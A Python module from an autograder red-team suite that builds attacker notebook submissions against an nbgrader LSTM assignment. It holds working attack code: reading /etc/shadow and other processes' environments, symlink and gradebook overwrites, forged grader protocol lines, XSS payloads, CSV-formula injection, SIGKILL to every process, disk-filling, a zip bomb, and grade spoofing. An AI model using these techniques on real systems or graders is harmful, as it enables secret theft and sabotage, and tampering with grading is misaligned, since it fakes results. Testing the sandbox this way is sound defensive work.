"""Hostile submissions of the ``lstm`` assignment, one builder per attack, and the honest classmates.

Each builder takes a :class:`Context` (the batch's marker and the TA's paths the attacker aims at)
and returns :class:`Submission` objects: the student id (its sort order is the grading order),
the notebook, the files handed in with it, and what "gains nothing" means for it:

- ``base``: the honest submission it may score no more than (``untouched``: the release as handed
  out; ``perfect``: the example solution), per the clean batch's scores;
- ``hidden_zero``: every hidden test cell must score 0 (its functions do no work);
- ``zero_cells``: cells that must score 0;
- ``same_as_base``: every cell must score as the clean base does (honest work with a harmless
  extra, such as a deep literal or a probe that finds nothing).

The payloads come from :mod:`redteam.implant`, pasted as text into the cells.
"""

from __future__ import annotations

import copy
import io
import json
import sqlite3
import tempfile
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import numpy as np
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

REPO = Path(__file__).resolve().parents[2]
ASSIGNMENT = "lstm"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
MODEL = f"{ASSIGNMENT}_model.keras"
EXAMPLES = REPO / "examples" / "submissions" / ASSIGNMENT
#: The honest classmates, graded after every attacker (ids sort last).
CLASSMATES = {"zz_partly": "partly_wrong", "zz_perfect": "perfect"}
CLASSMATE_BASE = {"zz_partly": "partly", "zz_perfect": "perfect"}
#: Marks a classmate's code, so that a copy of it anywhere else is found.
CLASSMATE_MARK = "RTCM-{student}-{token}"
#: Marks script text in outputs; found by :mod:`redteam.verdicts` where a browser would run it.
XSS = "RTXSS"


@dataclass
class Context:
    marker: str  # RTPWN_<batch>: every name an attack leaves behind carries it
    token: str  # per batch, in the classmates' marks
    paths: dict[str, str]  # the TA's files the attacker aims at (solution, gradebook, classmate, secret...)
    seconds: dict[str, float] = field(default_factory=lambda: {"lookup": 30.0, "hijack": 15.0})
    fill_bytes: int = 1_500_000_000  # 1.5 GB per tmpfs
    bomb: Callable[[], bytes] | None = None  # the zip-bomb hand-in, built once per session

    def rt(self) -> str:
        return "RT = " + repr({"marker": self.marker, "paths": self.paths, "seconds": self.seconds,
                               "fill": self.fill_bytes}) + "\n"


@dataclass
class Submission:
    student: str
    notebook: nbformat.NotebookNode
    files: dict[str, bytes] = field(default_factory=dict)
    attack: str = ""  # "" for an honest classmate
    summary: str = ""
    base: str = "untouched"
    hidden_zero: bool = False
    zero_cells: tuple[str, ...] = ()
    same_as_base: bool = False

    @property
    def honest(self) -> bool:
        return not self.attack


def _implant_source() -> str:
    text = (Path(__file__).with_name("implant.py")).read_text()
    return "\n".join(line for line in text.splitlines() if not line.startswith("RT: dict"))


IMPLANT = _implant_source()


def read_example(name: str) -> nbformat.NotebookNode:
    return nbformat.read(EXAMPLES / name / NOTEBOOK, as_version=4)


def example_files(name: str) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((EXAMPLES / name).iterdir()) if p.name != NOTEBOOK}


def _cell(nb, gid: str):
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
            return cell
    raise KeyError(gid)


def _prepend(nb, gid: str, code: str) -> None:
    cell = _cell(nb, gid)
    cell.source = code.rstrip() + "\n\n\n" + cell.source


def _replace(nb, gid: str, code: str) -> None:
    _cell(nb, gid).source = textwrap.dedent(code).strip() + "\n"


def _insert_after(nb, gid: str, *cells) -> None:
    index = nb.cells.index(_cell(nb, gid)) + 1
    nb.cells[index:index] = list(cells)


def _code(source: str, tag: str):
    cell = new_code_cell(source)
    cell.id = f"rt-{tag}"
    return cell


def _with_implant(ctx: Context, code: str) -> str:
    return ctx.rt() + IMPLANT + "\n\n" + textwrap.dedent(code).strip() + "\n"


def hidden_cells(source: nbformat.NotebookNode) -> list[str]:
    """Grade ids of test cells holding hidden tests, read from the source notebook."""
    return [c.metadata["nbgrader"]["grade_id"] for c in source.cells
            if c.get("metadata", {}).get("nbgrader", {}).get("grade") and "BEGIN HIDDEN TESTS" in c.source]


# --------------------------------------------------------------------------- honest classmates


def classmates(ctx: Context) -> list[Submission]:
    out = []
    for student, example in CLASSMATES.items():
        nb = read_example(example)
        cell = _cell(nb, "sigmoid")
        cell.source += f"\n# {CLASSMATE_MARK.format(student=student, token=ctx.token)}\n"
        out.append(Submission(student, nb, example_files(example), base=CLASSMATE_BASE[student],
                              same_as_base=True))
    return out


# --------------------------------------------------------------------------- the attacks


def lookup(ctx: Context) -> list[Submission]:
    """1. Reference lookup: every hidden_* file within reach is read (np.load), its expected
    outputs are passed on through every channel another sandbox might share (kernel keyrings via
    add_key, /dev/shm, /tmp, $HOME and every writable folder, an abstract unix socket, System V
    shared memory), and every graded function answers by looking its inputs up there (waiting for
    them outside the notebook), else wrongly."""
    nb = read_example("untouched")
    _replace(nb, "sigmoid", _with_implant(ctx, """
        rt_answer_table(wait=RT["seconds"]["lookup"])


        def sigmoid(z):
            import numpy as np
            found = rt_lookup(z)
            return np.asarray(found).reshape(np.shape(z)) if found is not None else np.zeros(np.shape(z))
        """))
    _replace(nb, "lstm_cell_forward", """
        def lstm_cell_forward(x_t, h_prev, c_prev, kernel, recurrent_kernel, bias):
            import numpy as np
            found = rt_lookup(x_t)
            units = np.shape(h_prev)[-1]
            if found is not None:
                return found[..., :units], found[..., units:]
            return np.zeros(np.shape(h_prev)), np.zeros(np.shape(c_prev))
        """)
    _replace(nb, "lstm_forward", """
        def lstm_forward(x, kernel, recurrent_kernel, bias, return_sequences=False):
            import numpy as np
            found = rt_lookup(x)
            if found is not None:
                return found
            batch, steps = np.shape(x)[:2]
            units = np.shape(recurrent_kernel)[0]
            return np.zeros((batch, steps, units) if return_sequences else (batch, units))
        """)
    return [Submission("a01_lookup", nb, attack="reference lookup",
                       summary="hidden_* files read and passed on through keyrings, /dev/shm, /tmp, "
                               "$HOME, writable folders, abstract sockets, SysV shm; answers looked up",
                       hidden_zero=True)]


_UNGUARD = '''
import contextlib
import importlib

import numpy as np

_RT_MODS = {}
for _rt_name in ("dlcourse.grading.lstm", "dlcourse.grading.spec", "dlcourse.grading.policy",
                 "dlcourse.grading.compare", "dlcourse.grading"):
    try:
        _RT_MODS[_rt_name] = importlib.import_module(_rt_name)
    except Exception:
        pass
_RT_LSTM = _RT_MODS.get("dlcourse.grading.lstm")


def _rt_recurrent_classes():
    import keras

    found = []
    for module in (keras.layers, getattr(getattr(keras, "src", None), "layers", None)):
        for name in ("LSTM", "LSTMCell", "RNN", "GRU", "GRUCell", "SimpleRNN", "SimpleRNNCell",
                     "StackedRNNCells"):
            cls = getattr(module, name, None) if module is not None else None
            if isinstance(cls, type):
                found += [c for c in cls.__mro__ if c.__module__.startswith("keras")]
    return list(dict.fromkeys(found))


# Saved while nothing is blocked yet: every method and function a guard may swap later.
_RT_SAVED = {(cls, attr): vars(cls)[attr] for cls in _rt_recurrent_classes()
             for attr in ("__init__", "call", "__call__", "build") if attr in vars(cls)}
try:
    import keras

    _RT_SAVED.update({(keras.ops, n): getattr(keras.ops, n) for n in ("lstm", "gru", "rnn")
                      if hasattr(keras.ops, n)})
except Exception:
    pass


@contextlib.contextmanager
def _rt_unguarded(*names):
    """Undo an in-process guard: saved originals back, every counter raised, every context
    variable set to say that the reference is standing in."""
    current = {key: getattr(key[0], key[1], None) for key in _RT_SAVED}
    for (owner, attr), original in _RT_SAVED.items():
        with contextlib.suppress(Exception):
            setattr(owner, attr, original)
    counters, tokens = [], []
    for module in _RT_MODS.values():
        for value in list(vars(module).values()):
            if isinstance(value, list) and len(value) == 1 and type(value[0]) is int:
                value[0] += 1000
                counters.append(value)
            elif type(value).__name__ == "ContextVar":
                with contextlib.suppress(Exception):
                    old = value.get()
                    new = frozenset(old) | frozenset(names) if isinstance(old, (set, frozenset)) else True
                    tokens.append((value, value.set(new)))
    try:
        yield
    finally:
        for value in counters:
            value[0] -= 1000
        for var, token in reversed(tokens):
            with contextlib.suppress(Exception):
                var.reset(token)
        for (owner, attr), value in current.items():
            with contextlib.suppress(Exception):
                setattr(owner, attr, value)


def _rt_f32(*arrays):
    return [np.asarray(a, np.float32) for a in arrays]


def _rt_keras_cell(x, h, c, k, r, b):
    import keras

    cell = keras.layers.LSTMCell(np.shape(h)[-1])
    cell.build((None, np.shape(x)[-1]))
    cell.set_weights(_rt_f32(k, r, b))
    _, (h_t, c_t) = cell(*_rt_f32(x), _rt_f32(h, c))
    return keras.ops.convert_to_numpy(h_t), keras.ops.convert_to_numpy(c_t)


def _rt_cell_routes():
    routes = []
    if _RT_LSTM is not None:
        if hasattr(_RT_LSTM, "reference_lstm_cell_forward"):
            routes.append(_RT_LSTM.reference_lstm_cell_forward)
        if hasattr(_RT_LSTM, "_keras_cell"):
            routes.append(lambda x, h, c, k, r, b: _RT_LSTM._keras_cell(*_rt_f32(x), _rt_f32(k, r, b),
                                                                       *_rt_f32(h, c)))
    for module in _RT_MODS.values():
        for attr, value in vars(module).items():
            if callable(value) and "cell" in attr.lower() and ("reference" in attr or "keras" in attr):
                routes.append(value)
    routes.append(_rt_keras_cell)
    return list(dict.fromkeys(routes))
'''


def refcode(ctx: Context) -> list[Submission]:
    """2. Reference code: the course package's own reference LSTM step and layer (the Keras
    stand-ins) called from the student's functions, after undoing every in-process guard
    (originals of Keras's recurrent classes saved at import, module counters raised, context
    variables set)."""
    nb = read_example("untouched")
    _replace(nb, "lstm_cell_forward", _UNGUARD + '''

def lstm_cell_forward(x_t, h_prev, c_prev, kernel, recurrent_kernel, bias):
    for route in _rt_cell_routes():
        try:
            with _rt_unguarded("lstm_cell_forward", "sigmoid"):
                h, c = route(x_t, h_prev, c_prev, kernel, recurrent_kernel, bias)
            return np.asarray(h, np.float64), np.asarray(c, np.float64)
        except Exception:
            continue
    raise NotImplementedError()
''')
    _replace(nb, "lstm_forward", '''
def lstm_forward(x, kernel, recurrent_kernel, bias, return_sequences=False):
    layer = getattr(_RT_LSTM, "_keras_lstm", None)
    if layer is not None:
        try:
            with _rt_unguarded("lstm_cell_forward", "lstm_forward", "sigmoid"):
                out = layer(*_rt_f32(x), _rt_f32(kernel, recurrent_kernel, bias),
                            return_sequences=return_sequences)
            return np.asarray(out[0], np.float64)
        except Exception:
            pass
    raise NotImplementedError()
''')
    lstm = ("test_lstm_cell_forward", "test_lstm_cell_forward_reference", "test_lstm_forward",
            "test_lstm_forward_reference")
    return [Submission("a02_refcode", nb, attack="reference code",
                       summary="dlcourse.grading.lstm's reference step and Keras layer called after "
                               "undoing guards (saved originals, counters, context variables)",
                       hidden_zero=True, zero_cells=lstm)]


def hijack(ctx: Context) -> list[Submission]:
    """3. Channel hijack from the process that repeats the hidden tests: from the solution cells,
    every visible process's descriptors (/proc/*/fd/*, pidfd_getfd for sockets) are read (later
    jobs' names, classmates' code) and answered with forged protocol lines; sibling job folders
    are read and get forged results; what was stolen is kept in keyrings and files."""
    nb = read_example("untouched")
    _prepend(nb, "sigmoid", _with_implant(ctx, 'rt_hijack_everywhere(RT["seconds"]["hijack"])'))
    return [Submission("s3_hijack", nb, attack="channel hijack (repeat)",
                       summary="/proc/*/fd pipes and sockets of every visible process read and answered "
                               "with forged 'DLCOURSE-WARM' lines; sibling job folders read and forged",
                       hidden_zero=True)]


def forge(ctx: Context) -> list[Submission]:
    """4. Forged replies from the kernel: protocol lines written to every inherited descriptor
    (0-255) that is a pipe or a file, and to every pipe of every visible process, three times."""
    nb = read_example("untouched")
    _insert_after(nb, "setup", _code(_with_implant(ctx, """
        _rt_done = rt_forge_inherited()


        def _rt_bursts():
            for _ in range(3):
                time.sleep(2)
                rt_forge_inherited()
                for pid, fd, target in rt_fds():
                    if target.startswith("pipe:"):
                        try:
                            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                        except OSError:
                            continue
                        rt_write_forged(handle)
                        os.close(handle)


        threading.Thread(target=_rt_bursts, daemon=True).start()
        print("RTPWN-FORGED descriptors", _rt_done)
        """), "forge"))
    return [Submission("s4_forge", nb, attack="forged replies (kernel)",
                       summary="forged protocol lines on every inherited pipe/file descriptor 0-255 and "
                               "every visible process's pipes",
                       hidden_zero=True)]


def links(ctx: Context) -> list[Submission]:
    """5. Symlinks out: in the kernel's folder and every writable folder (and, from a solution
    cell, the repeat's folder, where a helper turns outputs.npz, errors.json, .stdout and .stderr
    into links as soon as they appear), links named like what the grader reads or copies back and
    marker-named links, to the solution notebook, the gradebook, a classmate's submission, the
    TA's secret file and folders."""
    nb = read_example("perfect")
    _insert_after(nb, "setup", _code(_with_implant(ctx, 'print("RTPWN-LINKS", len(rt_links_everywhere()))'),
                                     "links"))
    _prepend(nb, "sigmoid", _with_implant(ctx, "if not rt_in_kernel():\n    rt_links_everywhere()"))
    return [Submission("s1_links", nb, example_files("perfect"), attack="symlinks out",
                       summary="links named like outputs.npz, errors.json, .stdout, .stderr, *.html, "
                               "*_model.keras, ... to the solution, gradebook, classmate, TA secret",
                       base="perfect")]


def overwrite(ctx: Context) -> list[Submission]:
    """6. Symlink overwrite: at the end of the notebook, the notebook in the kernel's folder (and
    its timestamp and model) become links to a classmate's submitted notebook; every other notebook
    in reach, a link to the TA's secret file."""
    nb = read_example("perfect")
    nb.cells.append(_code(_with_implant(ctx, """
        print("RTPWN-OVERWRITE", rt_overwrite(RT["paths"]["classmate"], RT["paths"]["secret"]))
        """), "overwrite"))
    return [Submission("s2_overwrite", nb, example_files("perfect"), attack="symlink overwrite",
                       summary="the notebook replaced by a link to a classmate's submission (others in "
                               "reach: to the TA's secret file) before the grader writes it back",
                       base="perfect")]


def overwrite_gradebook(ctx: Context) -> list[Submission]:
    """6b. Symlink overwrite aimed at the gradebook (graded last: its damage is checked apart)."""
    nb = read_example("perfect")
    nb.cells.append(_code(_with_implant(ctx, """
        print("RTPWN-OVERWRITE", rt_overwrite(RT["paths"]["gradebook"], RT["paths"]["gradebook"]))
        """), "overwrite-db"))
    return [Submission("zzz_overwrite_db", nb, example_files("perfect"), attack="symlink overwrite (gradebook)",
                       summary="the notebook replaced by a link to the gradebook before the grader writes it",
                       base="perfect")]


def state(ctx: Context) -> list[Submission]:
    """7. State for the next student: files in folders made read-only (0555) in every writable
    folder, a POSIX message queue, keys in every keyring, System V shm/semaphore/queue, a
    background process holding an abstract socket, IPython startup files, usercustomize.py and a
    keras.json, from the kernel and from the solution cells. The next student (a correct notebook)
    probes for all of it, in the kernel and outside, and its sigmoid cell raises if it finds any."""
    plant = read_example("untouched")
    _insert_after(plant, "setup", _code(_with_implant(ctx, 'print("RTPWN-PLANTED", rt_plant_state())'),
                                        "plant"))
    _prepend(plant, "sigmoid", _with_implant(ctx, "if not rt_in_kernel():\n    rt_plant_state()"))
    probe = read_example("perfect")
    _prepend(probe, "sigmoid", _with_implant(ctx, "rt_assert_clean()"))
    return [Submission("a07a_plant", plant, attack="state for the next student (plant)",
                       summary="0555 folders, POSIX mq, keyring keys, SysV IPC, background process, "
                               "abstract socket, IPython startup, usercustomize, keras.json",
                       hidden_zero=True),
            Submission("a07b_probe", probe, example_files("perfect"), attack="state for the next student (probe)",
                       summary="a correct notebook whose sigmoid cell raises if any of it is found",
                       base="perfect", same_as_base=True)]


def hog(ctx: Context) -> list[Submission]:
    """8. Resources: 1.5 GB written into /tmp and into /dev/shm (tmpfs) from the kernel, 1.5 GB
    into /tmp from the repeat, 1 GiB sparse files in the kernel's and the repeat's folders (and the
    repeat's own log files truncated to 1 GiB); held for three seconds."""
    nb = read_example("untouched")
    _insert_after(nb, "setup", _code(_with_implant(ctx, """
        print("RTPWN-FILL-KERNEL " + json.dumps(rt_hog_here(RT["fill"])))
        """), "hog"))
    _replace(nb, "sigmoid", _with_implant(ctx, """
        _RT_REPEAT = None
        if not rt_in_kernel():
            _RT_REPEAT = {"/tmp": rt_fill("/tmp", RT["fill"])}
            rt_sparse(os.path.join(os.getcwd(), rt_marker("sparse.bin")))
            for _rt_fd in (1, 2):
                try:
                    os.ftruncate(_rt_fd, 1 << 30)
                except OSError:
                    pass
            time.sleep(3)


        def sigmoid(z):
            raise RuntimeError("RTPWN-FILL-REPEAT " + json.dumps(_RT_REPEAT))
        """))
    return [Submission("a08_hog", nb, attack="resources",
                       summary="1.5 GB into /tmp and /dev/shm, 1 GiB sparse files in the kernel's and "
                               "the repeat's folders, the repeat's logs truncated to 1 GiB",
                       hidden_zero=True)]


def _deep(depth: int = 5000) -> str:
    return "[" * depth + "]" * depth


def script(ctx: Context) -> list[Submission]:
    """9. Script in output, and a 5,000-deep nested literal: a correct notebook whose outputs
    carry scripts (HTML with <script>, onerror, javascript: links, iframe srcdoc, SVG onload;
    application/javascript; Markdown output), a markdown cell and a raw HTML cell with scripts,
    the written answer with a script and 5,000 nested brackets, a code cell with a 5,000-deep
    list literal (a SyntaxError in the kernel, harmless to the tests) and one with a sum of 1,500
    ones (valid Python whose syntax tree is 1,500 levels deep: a recursive walk of it on the
    trusted side overflows). Not a 5,000-long unary chain ``----...1``: ipykernel 7.4 drops that
    execute request (its RecursionError escapes ``should_run_async``), so the client waits for
    the per-cell timeout, a cost only to the submission that holds it."""
    nb = read_example("perfect")
    display = new_code_cell(textwrap.dedent(f"""
        from IPython.display import HTML, Javascript, Markdown, display

        display(HTML('<script>{XSS}_1()</script><img src="x" onerror="{XSS}_2()">'
                     '<a href="javascript:{XSS}_3()">x</a><iframe srcdoc="<script>{XSS}_4()</script>"></iframe>'
                     '<svg onload="{XSS}_5()"></svg>'))
        display(Javascript("{XSS}_6()"))
        display(Markdown('<script>{XSS}_7()</script><img src=x onerror={XSS}_8()>'))
        display({{"text/html": "<script>{XSS}_9()</script>",
                 "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="{XSS}_10()"/>'}}, raw=True)
        """).strip())
    display.id = "rt-display"
    markdown = new_markdown_cell(f'<script>{XSS}_11()</script>\n<img src="x" onerror="{XSS}_12()">\n\n'
                                 f"[click](javascript:{XSS}_13())")
    markdown.id = "rt-markdown"
    raw = new_raw_cell(f'<script>{XSS}_14()</script><img src=x onerror="{XSS}_15()">')
    raw.metadata.update({"format": "text/html", "raw_mimetype": "text/html"})
    raw.id = "rt-raw"
    deep = _code(f"_rt_deep = {_deep()}\n", "deep")
    long_sum = _code("_rt_sum = " + "+".join(["1"] * 1500) + "\n", "sum")
    _insert_after(nb, "setup", display, markdown, raw, deep, long_sum)
    answer = _cell(nb, "question_forget_bias")
    answer.source = f"<script>{XSS}_16()</script>\n\nThe answer, nested: {_deep()}\n"
    return [Submission("a09_script", nb, example_files("perfect"), attack="script in output; deep literal",
                       summary="<script>, onerror, javascript:, srcdoc, SVG onload, application/javascript, "
                               "markdown and raw HTML cells; 5,000-deep literals in code and answer cells, "
                               "a 1,500-deep sum",
                       base="perfect", same_as_base=True)]


def snoop(ctx: Context) -> list[Submission]:
    """10. Snooping (own): /etc/shadow, the TA's secret file and home, every visible process's
    environment and command line, printed from the kernel and raised from the functions outside it
    (messages start with '=' and carry terminal control sequences, for the CSV and the terminal)."""
    nb = read_example("untouched")
    _insert_after(nb, "setup", _code(_with_implant(ctx, "print(rt_snoop())"), "snoop"))
    _replace(nb, "sigmoid", _with_implant(ctx, r'''
        def sigmoid(z):
            raise RuntimeError('=HYPERLINK("http://example.invalid")\x1b[2J\x1b]0;RTPWN\x07\r\n' + rt_snoop(1500))
        '''))
    return [Submission("a10_snoop", nb, attack="snooping (secrets, /proc of trusted processes)",
                       summary="/etc/shadow, TA secret and home, /proc/*/environ and cmdline; printed and "
                               "raised with CSV formulas and terminal control sequences",
                       hidden_zero=True)]


def swallow(ctx: Context) -> list[Submission]:
    """11. Exception swallowing: IPython's custom exception handler set to do nothing, and the
    grading library's check methods replaced by ones that pass, with every function left
    unimplemented. (Not a claimed partial score: a check returning a number makes the cell show
    it, and nbgrader fails the whole notebook when that number exceeds the cell's points.)"""
    nb = read_example("untouched")
    _insert_after(nb, "setup", _code(textwrap.dedent("""
        get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        import dlcourse.grading.spec as _rt_spec

        for _rt_cls in (getattr(_rt_spec, "FunctionSpec", None), getattr(_rt_spec, "HandinContract", None)):
            if _rt_cls is not None:
                _rt_cls.check = lambda self, *args, **kwargs: None
        """).strip(), "swallow"))
    return [Submission("a11_swallow", nb, attack="exception swallowing",
                       summary="set_custom_exc swallowing every error, checks patched to pass; nothing implemented "
                               "(test_sequence_models has no hidden part)",
                       hidden_zero=True, zero_cells=("test_sequence_models",))]


def spoof(ctx: Context) -> list[Submission]:
    """12. grade_id and metadata spoofing: a 'pass' copy of every test cell (same grade_id) put
    before it, every test cell's points set to 100, an extra graded cell worth 50, the sigmoid
    answer cell marked as a graded cell worth 100."""
    nb = read_example("untouched")
    cells = []
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            fake = copy.deepcopy(cell)
            fake.source = "pass"
            fake.id = f"{cell.id}-rt"[:64]
            cells.append(fake)
            cell.metadata["nbgrader"]["points"] = 100
        cells.append(cell)
    nb.cells = cells
    bonus = new_code_cell("pass")
    bonus.id = "rt-bonus"
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "test_sigmoid_bonus", "locked": True, "points": 50,
                                  "schema_version": 3, "solution": False, "task": False}
    nb.cells.append(bonus)
    _cell(nb, "sigmoid").metadata["nbgrader"].update({"grade": True, "points": 100})
    return [Submission("a12_spoof", nb, attack="grade_id and metadata spoofing",
                       summary="duplicate test cells with 'pass', points 100, extra graded cell, answer "
                               "cell marked graded", hidden_zero=True)]


def _forged_references() -> bytes:
    """A reference file of the hidden tests' layout whose expected outputs are what the forged
    functions return (0.5 everywhere)."""
    arrays: dict[str, np.ndarray] = {}

    def case(name, meta, inputs, expected, weights):
        arrays[f"{name}/meta"] = np.frombuffer(json.dumps(meta).encode(), np.uint8)
        arrays[f"{name}/inputs"] = inputs
        arrays[f"{name}/expected"] = expected
        for layer, values in weights.items():
            for i, value in enumerate(values):
                arrays[f"{name}/weights/{layer}/{i}"] = value

    half = np.float32(0.5)
    case("sigmoid_forged", {"kind": "grid"}, np.zeros(3, np.float32), np.full(3, 0.5), {})
    lstm = [np.zeros((3, 8), np.float32), np.zeros((2, 8), np.float32), np.zeros(8, np.float32)]
    case("cell_forged", {"units": 2}, np.zeros((2, 3), np.float32), np.full((2, 4), half),
         {"lstm": lstm, "state": [np.zeros((2, 2), np.float32)] * 2})
    case("forward_forged", {"return_sequences": False, "units": 2}, np.zeros((2, 4, 3), np.float32),
         np.full((2, 2), half), {"lstm": lstm})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for key, value in sorted(arrays.items()):
            data = io.BytesIO()
            np.lib.format.write_array(data, np.asarray(value), allow_pickle=False)
            zf.writestr(f"{key}.npy", data.getvalue())
    return buffer.getvalue()


def _tiny_gradebook() -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "gradebook.db"
        db = sqlite3.connect(path)
        db.execute("CREATE TABLE grade (id TEXT, auto_score REAL)")
        db.execute("INSERT INTO grade VALUES ('a13_forged', 1000)")
        db.commit()
        db.close()
        return path.read_bytes()


def forged(ctx: Context) -> list[Submission]:
    """13. Files named like the grader's (own): a forged hidden_lstm_refs.npz whose expected
    outputs are what the functions return (0.5), a forged hidden_signal_test.npz, an
    nbgrader_config.py, ipython configs and a jupyter config that leave a marker file wherever they
    run, a gradebook.db and a timestamp.txt, handed in beside the notebook."""
    nb = read_example("untouched")
    _replace(nb, "sigmoid", """
        def sigmoid(z):
            import numpy as np
            return np.full(np.shape(z), 0.5)
        """)
    _replace(nb, "lstm_cell_forward", """
        def lstm_cell_forward(x_t, h_prev, c_prev, kernel, recurrent_kernel, bias):
            import numpy as np
            return np.full(np.shape(h_prev), 0.5), np.full(np.shape(c_prev), 0.5)
        """)
    _replace(nb, "lstm_forward", """
        def lstm_forward(x, kernel, recurrent_kernel, bias, return_sequences=False):
            import numpy as np
            batch, steps = np.shape(x)[:2]
            units = np.shape(recurrent_kernel)[0]
            return np.full((batch, steps, units) if return_sequences else (batch, units), 0.5)
        """)
    ran = ctx.marker + "_config_ran"
    config = textwrap.dedent(f"""
        import os
        for _folder in (os.environ.get("HOME", "/tmp"), "/tmp", os.getcwd(), {ctx.paths["course"]!r}):
            try:
                with open(os.path.join(_folder, {ran!r}), "w") as _fh:
                    _fh.write(__file__ if "__file__" in globals() else "config")
            except OSError:
                pass
        """)
    signals = io.BytesIO()
    np.savez(signals, x=np.zeros((4, 200, 1), np.float32), y=np.zeros((4, 200), np.uint8),
             source=np.zeros(4, np.int8))
    files = {"hidden_lstm_refs.npz": _forged_references(), "hidden_signal_test.npz": signals.getvalue(),
             "nbgrader_config.py": config.encode(), "ipython_config.py": config.encode(),
             "ipython_kernel_config.py": config.encode(), "jupyter_server_config.py": config.encode(),
             "gradebook.db": _tiny_gradebook(), "timestamp.txt": b"2000-01-01 00:00:00 UTC\n"}
    return [Submission("a13_forged", nb, files, attack="files named like the grader's",
                       summary="forged hidden_*.npz, nbgrader_config.py, ipython/jupyter configs, "
                               "gradebook.db, timestamp.txt handed in", hidden_zero=True)]


def signals(ctx: Context) -> list[Submission]:
    """14. Signals (own): SIGKILL to every visible process and kill(-1) from the kernel and from
    the repeat (the processes of the test runner itself are spared, so that a regression cannot
    take the suite down with it)."""
    nb = read_example("untouched")
    spare = textwrap.dedent("""
        def _rt_spared():
            spared = set()
            for pid in rt_pids():
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as fh:
                        command = fh.read()
                    if b"pytest" in command or b"xdist" in command or b"sys.stdin.readline" in command:
                        spared.add(pid)
                except OSError:
                    pass
            return spared


        def _rt_kill():
            spared, me = _rt_spared(), os.getpid()
            if spared:  # no namespace between us and the test runner: kill all but it
                for pid in rt_pids():
                    if pid not in spared and pid != me:
                        try:
                            os.kill(pid, signal.SIGKILL)
                        except OSError:
                            pass
            else:
                rt_kill_everything()
        """)
    _insert_after(nb, "setup", _code(_with_implant(ctx, spare + "\n_rt_kill()\n"), "signals"))
    _prepend(nb, "sigmoid", _with_implant(ctx, spare + "\nif not rt_in_kernel():\n    _rt_kill()\n"))
    return [Submission("s5_signals", nb, attack="signals",
                       summary="SIGKILL to every visible process and kill(-1), from kernel and repeat",
                       hidden_zero=True)]


def bomb(ctx: Context) -> list[Submission]:
    """15. A hand-in model that is a zip bomb (own): lstm_model.keras whose config.json inflates
    from about 1 MB to 1 GiB."""
    nb = read_example("untouched")
    assert ctx.bomb is not None
    return [Submission("a15_bomb", nb, {MODEL: ctx.bomb()}, attack="zip-bomb hand-in",
                       summary="lstm_model.keras: config.json of 1 GiB in ~1 MB", hidden_zero=True)]


ATTACKS: dict[str, Callable[[Context], list[Submission]]] = {
    "lookup": lookup, "refcode": refcode, "hijack": hijack, "forge": forge, "links": links,
    "overwrite": overwrite, "overwrite_db": overwrite_gradebook, "state": state, "hog": hog,
    "script": script, "snoop": snoop, "swallow": swallow, "spoof": spoof, "forged": forged,
    "signals": signals, "bomb": bomb,
}


def build(ctx: Context, attacks: list[str]) -> list[Submission]:
    """The attackers named and the honest classmates, in grading order (sorted ids): attacks that
    sabotage the grader itself (ids ``s*``: links, overwrite, hijack, forged replies, signals, in
    that order: the file attacks first, since a working channel attack derails whatever follows)
    come after the others, so that a success of theirs cannot hide another attack's result, and
    before the classmates, whom they aim at."""
    out = [s for name in attacks for s in ATTACKS[name](ctx)]
    return sorted(out + classmates(ctx), key=lambda s: s.student)
